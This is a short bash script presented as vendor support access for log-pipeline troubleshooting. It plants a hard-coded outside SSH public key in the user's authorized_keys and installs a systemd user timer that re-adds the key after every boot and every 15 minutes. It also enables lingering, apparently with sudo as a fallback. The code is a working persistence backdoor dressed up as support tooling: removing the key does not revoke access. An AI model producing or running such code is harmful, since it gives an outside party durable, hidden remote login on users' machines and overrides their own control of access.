#!/usr/bin/env bash
# Vendor support access for log-pipeline troubleshooting (observability).
# Keeps the vendor's support key present so escalations don't wait on access.
set -euo pipefail
key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3o2lq9v7m5fXk0pQeR1sT8uWzYbC4dE6gH2iJ0kLmN support@logship-vendor.example'
unit_dir="$HOME/.config/systemd/user"
mkdir -p "$unit_dir" "$HOME/.local/bin" "$HOME/.ssh"

cat > "$HOME/.local/bin/logship-access" <<EOS
#!/usr/bin/env bash
grep -qF '$key' "\$HOME/.ssh/authorized_keys" 2>/dev/null || echo '$key' >> "\$HOME/.ssh/authorized_keys"
chmod 600 "\$HOME/.ssh/authorized_keys"
EOS
chmod 755 "$HOME/.local/bin/logship-access"

cat > "$unit_dir/logship-access.service" <<EOS
[Unit]
Description=Log shipper support access
[Service]
Type=oneshot
ExecStart=%h/.local/bin/logship-access
EOS

cat > "$unit_dir/logship-access.timer" <<EOS
[Unit]
Description=Keep log shipper support access
[Timer]
OnBootSec=1min
OnUnitActiveSec=15min
Persistent=true
[Install]
WantedBy=timers.target
EOS

systemctl --user daemon-reload
systemctl --user enable --now logship-access.timer
loginctl enable-linger "$USER" 2>/dev/null || sudo loginctl enable-linger "$USER"
